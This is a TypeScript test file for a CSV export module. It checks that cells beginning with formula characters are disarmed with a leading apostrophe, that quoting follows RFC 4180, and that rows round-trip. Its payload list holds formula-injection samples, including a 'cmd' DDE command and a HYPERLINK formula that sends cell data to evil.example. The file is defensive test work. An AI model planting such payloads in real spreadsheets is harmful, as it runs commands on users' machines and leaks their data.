import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { csvCell, csvRow } from '../../../server/exports/csv.ts'
import { parseCsv } from './parse-csv.ts'

const DANGEROUS = ['=', '+', '-', '@', '\t', '\r', '\n', '\u0000', '＝', '＋', '－', '＠']
const PAYLOADS = DANGEROUS.flatMap((sign) => [
  sign,
  `${sign}1+1`,
  `${sign}cmd|' /C calc'!A0`,
  `${sign}HYPERLINK("http://evil.example?x="&A1,"click")`,
  `${sign}"quoted"`,
  `${sign}\n=2`,
])

describe('csvCell', () => {
  it.each(PAYLOADS.map((text) => [JSON.stringify(text), text]))('disarms %s', (_, text) => {
    const [[cell] = []] = parseCsv(csvRow([text]))
    expect(cell).toBe(`'${text}`)
  })

  it('quotes by RFC 4180', () => {
    expect(csvCell('a,b')).toBe('"a,b"')
    expect(csvCell('他说"好"')).toBe('"他说""好"""')
    expect(csvCell('两\n行')).toBe('"两\n行"')
    expect(csvCell('plain 文字')).toBe('plain 文字')
  })

  it('leaves numbers numbers, and nothing empty', () => {
    expect(csvRow([-5, 0.25, null, Number.NaN])).toBe('-5,0.25,,\r\n')
  })

  it('is read back as it was written, but for the apostrophe', () => {
    fc.assert(
      fc.property(fc.array(fc.array(fc.string({ unit: 'binary' }), { minLength: 2 })), (rows) => {
        const read = parseCsv(rows.map(csvRow).join(''))
        const expected = rows.map((row) =>
          row.map((cell) => (DANGEROUS.includes(cell[0] ?? '') ? `'${cell}` : cell)),
        )
        expect(read).toEqual(expected)
      }),
    )
  })
})
